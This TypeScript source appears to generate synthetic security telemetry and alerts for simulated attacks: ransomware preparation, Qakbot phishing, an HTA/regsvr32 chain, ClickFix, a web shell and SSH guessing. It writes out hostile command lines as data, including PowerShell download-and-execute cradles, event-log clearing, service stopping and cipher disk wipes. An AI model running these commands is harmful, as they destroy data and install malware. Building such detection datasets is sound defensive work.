  // Human-operated ransomware prep: stop and disable services, kill databases, wipe free space, clear all logs.
  t = at(7, 25);
  const victims = ['MSSQLSERVER', 'SQLSERVERAGENT', 'SQLBrowser', 'SQLWriter', 'MSExchangeIS', 'MSExchangeTransport', 'VeeamBackupSvc', 'BackupExecAgentAccelerator', 'wbengine', 'vss', 'SstpSvc', 'MsDtsServer150'];
  for (const svc of victims) {
    t += rng.int(1, 4) * SEC_TICKS;
    const n = run(a, t, cmd, 'net', `net stop "${svc}" /y`);
    w.spawn(t + 20 * MS_TICKS, n, 'net1', `C:\\Windows\\system32\\net1 stop "${svc}" /y`);
    run(a, t + SEC_TICKS, cmd, 'sc', `sc config "${svc}" start= disabled`);
  }
  for (const proc of ['sqlservr.exe', 'sqlagent.exe', 'sqlbrowser.exe', 'sqlwriter.exe', 'msmdsrv.exe', 'mysqld.exe', 'oracle.exe', 'ocssd.exe', 'dbsnmp.exe', 'sqlceip.exe', 'isqlplussvc.exe', 'xfssvccon.exe']) {
    t += rng.int(1, 3) * SEC_TICKS;
    run(a, t, cmd, 'taskkill', `taskkill /F /IM ${proc}`);
  }
  run(a, t + 10 * SEC_TICKS, cmd, 'fsutil', 'fsutil usn deletejournal /D C:');
  run(a, t + 20 * SEC_TICKS, cmd, 'cipher', 'cipher /w:C:\\ProgramData');
  run(a, t + 25 * SEC_TICKS, cmd, 'cipher', 'cipher /w:D:\\');
  t = at(7, 20);
  for (const log of ['Security', 'System', 'Application', 'Windows PowerShell', 'Setup', 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TaskScheduler/Operational', 'Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-Bits-Client/Operational']) {
    t += rng.int(3, 20) * SEC_TICKS;
    const p = run(a, t, cmd, 'wevtutil', `wevtutil cl "${log}"`);
    if (log === 'Security') {
      w.devEvent(t + SEC_TICKS, rdgw, 'SecurityLogCleared', {}, p);
      facts.alerts.push({
        t: t + SEC_TICKS, title: 'Event log was cleared', category: 'DefenseEvasion', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
        techniques: ['Clear Windows Event Logs (T1070.001)'],
        evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'Process', role: 'Related', proc: p }],
      });
    }
  }
  // The RD Gateway's own traffic to the internet is blocked by nobody: its firewall is off (scid-2070).
  void ex;
}

function phishing(a: Activity, facts: StoryFacts): void {
  const { w, rng } = a;
  const ws = w.fleet.devices.filter((d) => d.kind === 'workstation' && d.user && !a.adminWorkstations.includes(d));
  if (ws.length < 2) return;
  const victim = ws[Math.min(5, ws.length - 1)]!;
  const t0 = 24 * HOUR_TICKS - 3 * HOUR_TICKS - 10 * MIN_TICKS;
  const s = sessionAt(a, victim, t0);
  if (!s) return;
  const user = s.acct;
  const outlook = w.existing(victim, 'outlook');
  const dir = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rng.hex(8).toUpperCase()}\\`;
  const doc = w.img(victim, 'phish:doc', { path: dir + 'Invoice_44871.docm', size: 84_412 });
  w.fileEvent(t0, outlook, 'FileCreated', doc.path, {}, doc);
  const word = w.spawn(t0 + 20 * SEC_TICKS, outlook, 'winword', `"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "${doc.path}" /o ""`, { loadChance: 1 });
  w.devEvent(t0 + 40 * SEC_TICKS, victim, 'BrowserLaunchedToOpenUrl', { RemoteUrl: `https://${PHISH_DOMAIN}/invoice/44871` }, word);
  const cradle = `IEX (New-Object Net.WebClient).DownloadFile('https://${PHISH_DOMAIN}/cdn/upd.dll','$env:TEMP\\upd.dll'); rundll32 $env:TEMP\\upd.dll,DllRegisterServer`;
  const ps = run(a, t0 + 45 * SEC_TICKS, word, 'powershell', `powershell.exe -nop -w hidden -ep bypass -enc ${b64Utf16(cradle)}`, { loadChance: 1 });
  w.devEvent(t0 + 45 * SEC_TICKS, victim, 'AsrOfficeChildProcessAudited', { FileName: ps.file, FolderPath: ps.path, SHA1: ps.sha1, SHA256: ps.sha256, ProcessCommandLine: ps.cmd, AdditionalFields: JSON.stringify({ IsAudit: true }) }, word);
  psCommands(a, t0 + 45 * SEC_TICKS, ps, ['New-Object', 'Invoke-Expression']);
  w.devEvent(t0 + 46 * SEC_TICKS, victim, 'DnsQueryResponse', { AdditionalFields: JSON.stringify({ DnsQueryString: PHISH_DOMAIN, DnsQueryResult: [{ DnsQueryType: 'A', Result: '193.29.13.44' }] }) }, ps);
  const dll = w.img(victim, 'phish:dll', { path: `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\upd.dll`, size: 413_696 });
  w.fileEvent(t0 + 50 * SEC_TICKS, ps, 'FileCreated', dll.path, { FileOriginUrl: `https://${PHISH_DOMAIN}/cdn/upd.dll`, FileOriginIP: '193.29.13.44' }, dll);
  const rd = w.spawn(t0 + 52 * SEC_TICKS, ps, 'rundll32', `"C:\\Windows\\system32\\rundll32.exe" ${dll.path},DllRegisterServer`, { loadChance: 1 });
  w.load(t0 + 52 * SEC_TICKS + 30 * MS_TICKS, rd, '', dll);
  w.devEvent(t0 + 53 * SEC_TICKS, victim, 'AntivirusDetection', { FileName: dll.file, FolderPath: dll.path, SHA1: dll.sha1, SHA256: dll.sha256, MD5: dll.md5, FileSize: dll.size, AdditionalFields: JSON.stringify({ ThreatName: 'Trojan:Win32/Qakbot.RPX!MTB', WasRemediated: true, WasExecutingWhileDetected: true, Action: 'Quarantined' }) }, rd);
  const messageId = rng.guid();
  const others = ws.filter((d) => d !== victim).slice(0, 4).map((d) => ({ ...d.user!, domain: 'contoso', sid: d.user!.sid, logonId: 0, admin: false } as Acct));
  facts.phish = { t: t0 - 2 * MIN_TICKS, victim, acct: user, attachment: doc, others, messageId };
  facts.alerts.push({
    t: t0 + 46 * SEC_TICKS, title: 'Suspicious decoded content', category: 'Execution', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['PowerShell (T1059.001)', 'Spearphishing Attachment (T1566.001)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: victim }, { type: 'Process', role: 'Related', proc: ps }, { type: 'User', role: 'Impacted', acct: user, dev: victim }, { type: 'File', role: 'Related', img: doc, dev: victim }],
  });
  facts.alerts.push({
    t: t0 + 53 * SEC_TICKS, title: "'Qakbot' malware was prevented", category: 'Malware', severity: 'High', service: 'Microsoft Defender for Endpoint', detection: 'Antivirus',
    techniques: ['Rundll32 (T1218.011)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: victim }, { type: 'File', role: 'Impacted', img: dll, dev: victim, threat: 'Qakbot' }, { type: 'Url', role: 'Related', url: `https://${PHISH_DOMAIN}/cdn/upd.dll` }],
  });
  facts.alerts.push({
    t: t0 + 53 * SEC_TICKS, title: 'Suspicious process launch by Rundll32.exe', category: 'DefenseEvasion', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['Rundll32 (T1218.011)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: victim }, { type: 'Process', role: 'Related', proc: rd }],
  });
  facts.alerts.push({
    t: t0 + 2 * MIN_TICKS, title: 'Email messages containing malicious file removed after delivery', category: 'InitialAccess', severity: 'Informational', service: 'Microsoft Defender for Office 365', detection: 'Microsoft Defender for Office 365',
    techniques: ['Spearphishing Attachment (T1566.001)'],
    evidence: [{ type: 'MailMessage', role: 'Impacted', messageId, subject: 'Overdue invoice 44871 - action required', acct: user }],
  });
}

/**
 * A second recipient of the phishing campaign follows the mail's link instead: the browser downloads an HTA that
 * mshta runs; it stages a .bat in C:\\Users\\Public and a DLL disguised as a JPEG that regsvr32 loads.
 */
function htaFollowUp(a: Activity, facts: StoryFacts): void {
  const { w } = a;
  const p = facts.phish;
  if (!p || p.others.length < 2) return;
  const dev = w.fleet.devices.find((d) => d.user?.name === p.others[1]!.name);
  if (!dev) return;
  const t0 = p.t + 50 * MIN_TICKS;
  const s = sessionAt(a, dev, t0);
  if (!s) return;
  const browser = w.existing(dev, 'chrome');
  const url = `https://${PHISH_DOMAIN}/invoice/44871/view.hta`;
  const hta = w.img(dev, 'phish:hta', { path: `C:\\Users\\${s.acct.name}\\Downloads\\Invoice_44871.hta`, size: 6_144 });
  w.fileEvent(t0, browser, 'FileCreated', hta.path, { FileOriginUrl: url, FileOriginReferrerUrl: `https://${PHISH_DOMAIN}/invoice/44871`, FileOriginIP: '193.29.13.44' }, hta);
  const mshta = w.spawn(t0 + 15 * SEC_TICKS, s.explorer, 'mshta', `"C:\\Windows\\System32\\mshta.exe" "${hta.path}" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`, { loadChance: 1 });
  w.load(t0 + 16 * SEC_TICKS, mshta, 'mscoree');
  const bat = w.img(dev, 'phish:bat', { path: 'C:\\Users\\Public\\run.bat', size: 412 });
  w.fileEvent(t0 + 18 * SEC_TICKS, mshta, 'FileCreated', bat.path, {}, bat);
  const cmd = w.spawn(t0 + 20 * SEC_TICKS, mshta, 'cmd', `C:\\Windows\\system32\\cmd.exe /c C:\\Users\\Public\\run.bat`);
  const ps = run(a, t0 + 21 * SEC_TICKS, cmd, 'powershell', `powershell.exe -WindowStyle Hidden -NoProfile -Command "Invoke-WebRequest -Uri https://${PHISH_DOMAIN}/cdn/preview.jpg -OutFile C:\\Users\\Public\\preview.jpg"`, { loadChance: 1 });
  psCommands(a, t0 + 21 * SEC_TICKS, ps, ['Invoke-WebRequest']);
  const jpg = w.img(dev, 'phish:jpg', { path: 'C:\\Users\\Public\\preview.jpg', size: 398_336 });
  w.fileEvent(t0 + 24 * SEC_TICKS, ps, 'FileCreated', jpg.path, { FileOriginUrl: `https://${PHISH_DOMAIN}/cdn/preview.jpg`, FileOriginIP: '193.29.13.44' }, jpg);
  const rs = w.spawn(t0 + 26 * SEC_TICKS, cmd, 'regsvr32', 'regsvr32.exe /s C:\\Users\\Public\\preview.jpg', { loadChance: 1 });
  w.load(t0 + 26 * SEC_TICKS + 40 * MS_TICKS, rs, '', jpg);
  w.devEvent(t0 + 27 * SEC_TICKS, dev, 'AntivirusDetection', { FileName: jpg.file, FolderPath: jpg.path, SHA1: jpg.sha1, SHA256: jpg.sha256, MD5: jpg.md5, FileSize: jpg.size, AdditionalFields: JSON.stringify({ ThreatName: 'Trojan:Win32/Qakbot!ml', WasRemediated: true, WasExecutingWhileDetected: true, Action: 'Quarantined' }) }, rs);
  facts.alerts.push({
    t: t0 + 16 * SEC_TICKS, title: 'Suspicious mshta process launched', category: 'DefenseEvasion', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['Mshta (T1218.005)', 'Regsvr32 (T1218.010)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev }, { type: 'Process', role: 'Related', proc: mshta }, { type: 'File', role: 'Related', img: jpg, dev, threat: 'Qakbot' }, { type: 'Url', role: 'Related', url }],
  });
}

/** "ClickFix": a fake CAPTCHA makes a user paste a PowerShell command into the Run dialog. */
function clickFix(a: Activity, facts: StoryFacts): void {
  const { w } = a;
  const ws = w.fleet.devices.filter((d) => d.kind === 'workstation' && d.user);
  const dev = ws[Math.min(14, ws.length - 1)];
  if (!dev || dev.user?.name === facts.phish?.acct.name) return;
  const t0 = 24 * HOUR_TICKS - 4 * HOUR_TICKS - 40 * MIN_TICKS;
  const s = sessionAt(a, dev, t0);
  if (!s) return;
  const line = `powershell -w hidden -nop -c "iwr https://cdn-captcha-check.com/v.ps1 -UseBasicParsing | iex" # I am not a robot - Cloudflare Verification ID: 84521`;
  w.regEvent(t0, s.explorer, 'RegistryValueSet', `HKEY_CURRENT_USER\\${s.acct.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU`, 'a', 'String', `${line}\\1`);
  const ps = w.spawn(t0 + SEC_TICKS, s.explorer, 'powershell', line, { loadChance: 1 });
  w.spawn(t0 + SEC_TICKS + 30 * MS_TICKS, ps, 'conhost', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', { loads: false });
  psCommands(a, t0 + SEC_TICKS, ps, ['Invoke-WebRequest', 'Invoke-Expression']);
  w.devEvent(t0 + 3 * SEC_TICKS, dev, 'AmsiScriptDetection', { AdditionalFields: JSON.stringify({ Description: 'Lumma stealer loader', ScriptContent: '$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(...))' }) }, ps);
  w.devEvent(t0 + 3 * SEC_TICKS, dev, 'AntivirusDetection', { FileName: 'v.ps1', FolderPath: `C:\\Users\\${s.acct.name}\\AppData\\Local\\Temp\\v.ps1`, AdditionalFields: JSON.stringify({ ThreatName: 'Trojan:PowerShell/ClickFix.SA', WasRemediated: true, WasExecutingWhileDetected: true, Action: 'Blocked' }) }, ps);
  facts.alerts.push({
    t: t0 + 4 * SEC_TICKS, title: 'Suspicious command in RunMRU registry', category: 'Execution', severity: 'High', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['User Execution (T1204)', 'PowerShell (T1059.001)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev }, { type: 'Process', role: 'Related', proc: ps }, { type: 'User', role: 'Impacted', acct: s.acct, dev }, { type: 'Url', role: 'Related', url: 'https://cdn-captcha-check.com/v.ps1' }],
  });
}

function webShell(a: Activity, facts: StoryFacts): void {
  const { w, rng } = a;
  const web = w.fleet.facing.find((d) => w.state(d).base.has('iis') && d.role.startsWith('web'));
  if (!web) return;
  const w3 = w.existing(web, 'w3wp');
  const t0 = 24 * HOUR_TICKS - 6 * HOUR_TICKS - 12 * MIN_TICKS;
  const shell = w.img(web, 'webshell', { path: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorpage.aspx', size: 1_284 });
  w.fileEvent(t0, w3, 'FileCreated', shell.path, {}, shell);
  let t = t0 + 3 * MIN_TICKS;
  let first: PV | null = null;
  for (const c of ['whoami', 'ipconfig /all', 'net user', 'tasklist', 'dir c:\\users']) {
    t += rng.int(10, 90) * SEC_TICKS;
    const cmd = w.spawn(t, w3, 'cmd', `cmd.exe /c "cd /d "c:\\windows\\system32\\inetsrv\\"&${c}&echo [S]&cd&echo [E]"`);
    first ??= cmd;
    const key = c.split(' ')[0]!;
    if (['whoami', 'ipconfig', 'net', 'tasklist'].includes(key)) run(a, t + 20 * MS_TICKS, cmd, key, c);
  }
  facts.alerts.push({
    t: t0 + 4 * MIN_TICKS, title: 'Possible web shell installation', category: 'Persistence', severity: 'High', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['Web Shell (T1505.003)', 'Exploit Public-Facing Application (T1190)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: web }, { type: 'File', role: 'Related', img: shell, dev: web }, { type: 'Process', role: 'Related', proc: first! }],
  });
}

function sshGuessing(a: Activity): void {
  const { w, rng } = a;
  const bastion = w.fleet.bastion;
  if (!w.state(bastion).base.has('sshd')) return;
  for (let i = 0; i < 40; i++) {
    const t = 24 * HOUR_TICKS - 13 * HOUR_TICKS + i * rng.int(20, 60) * SEC_TICKS;
    const name = rng.pick(['root', 'root', 'admin', 'ubuntu', 'oracle', 'postgres', 'test', 'git']);
    logonRow(a, t, bastion, 'LogonFailed', 'Network', { ...rootAcct(bastion), name }, { protocol: null, remoteIp: SSH_GUESSER_IP, failure: 'InvalidUserNameOrPassword', local: false });
  }
}

function usbCopy(a: Activity): void {
  const { w, rng } = a;
  const ws = w.fleet.devices.filter((d) => d.kind === 'workstation' && d.user);
  const dev = ws[Math.min(9, ws.length - 1)];
  if (!dev) return;
  const t0 = 24 * HOUR_TICKS - 2 * HOUR_TICKS - 5 * MIN_TICKS;
  const s = sessionAt(a, dev, t0);
  if (!s) return;
  const services = w.state(dev).base.get('services')!;
  const serial = '070B3A1F9C8E2D44';
  w.devEvent(t0, dev, 'PnpDeviceConnected', { AdditionalFields: JSON.stringify({ ClassName: 'DiskDrive', DeviceId: `USBSTOR\\Disk&Ven_SanDisk&Prod_Ultra&Rev_1.00\\${serial}&0`, DeviceDescription: 'SanDisk Ultra USB Device', VendorIds: 'USBSTOR\\DiskSanDisk_Ultra___________1.00', ClassId: '{4d36e967-e325-11ce-bfc1-08002be10318}' }) }, services);
  w.devEvent(t0 + 3 * SEC_TICKS, dev, 'UsbDriveMounted', { AdditionalFields: JSON.stringify({ DriveLetter: 'E:', ProductName: 'Ultra', Manufacturer: 'SanDisk', SerialNumber: serial, Volume: '\\\\?\\Volume{5f1c2a9e-7b3d-11ef-9a1c-000c29d1e4a1}', ProductRevision: '1.00', BusType: 7 }) }, services);
  for (const name of ['Customer list.xlsx', 'Pricing 2027.xlsx', 'Roadmap.pptx', 'Contract draft.docx']) {
    const t = t0 + rng.int(30, 300) * SEC_TICKS;
    const f = w.fileEvent(t, s.explorer, 'FileCreated', `E:\\${name}`, { FileSize: rng.int(40_000, 4_000_000) });
    w.devEvent(t + SEC_TICKS, dev, 'RemovableStorageFileEvent', { FileName: f.file, FolderPath: f.path, SHA1: f.sha1, SHA256: f.sha256, FileSize: f.size, AdditionalFields: JSON.stringify({ Policy: 'Audit', PolicyRuleId: '{c544a991-5786-4402-949e-a032cb790d0e}', MediaName: 'SanDisk Ultra', DuplicatedOperation: 'Write', RemovableStorageAccess: 'Write' }) }, s.explorer);
  }
}

/**
 * An IT admin still on the deprecated MSOnline module: from their workstation, a PowerShell session connects to
 * Entra ID and runs a license clean-up (PowerShellCommand rows carry one cmdlet name each in Command).
 */
function msolAdmin(a: Activity): void {
  const { w, rng } = a;
  // The first admin workstation with its user logged on at one of a few morning times (09:20, 08:20 or 09:50 UTC).
  let found: { dev: Device; t0: number; s: NonNullable<ReturnType<typeof sessionAt>> } | null = null;
  for (const dev of a.adminWorkstations) {
    for (const h of [2, 3, 1.5]) {
      const t0 = 24 * HOUR_TICKS - h * HOUR_TICKS - 40 * MIN_TICKS;
      const s = sessionAt(a, dev, t0);
      if (s && !found) found = { dev, t0, s };
    }
  }
  if (!found) return;
  const { t0, s } = found;
  const ps = run(a, t0, s.explorer, 'powershell', '"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', { loadChance: 0.5 });
  psCommands(a, t0, ps, ['Import-Module', 'Connect-MsolService', 'Get-MsolAccountSku', 'Get-MsolUser', 'Where-Object', 'Select-Object']);
  psCommands(a, t0 + rng.int(3, 9) * MIN_TICKS, ps, ['Get-MsolUser', 'Set-MsolUserLicense', 'Get-MsolGroupMember', 'Export-Csv']);
}
